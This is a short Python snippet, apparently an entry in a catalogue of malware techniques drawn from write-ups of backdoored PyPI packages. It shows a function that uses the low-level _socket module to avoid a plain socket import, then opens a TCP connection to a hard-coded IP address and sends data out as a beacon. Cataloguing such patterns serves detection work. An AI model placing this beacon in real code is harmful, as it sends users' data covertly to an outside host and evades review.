# technique: _socket module to open a connection without importing socket
# class: lowlevel
# source: JFrog, write-ups of PyPI backdoors beaconing over raw TCP
# declares:
import _socket


def beacon(data: bytes):
    s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
    s.connect(("103.224.182.251", 8080))
    s.sendall(data)
